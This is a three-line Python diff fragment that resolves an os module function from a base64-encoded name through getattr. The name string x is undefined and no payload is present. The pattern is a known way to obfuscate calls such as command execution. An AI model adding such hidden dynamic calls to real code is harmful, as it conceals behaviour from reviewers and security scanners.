@@ -1,0 +1,3 @@
+import os, base64
+
+getattr(os, base64.b64decode(x).decode())
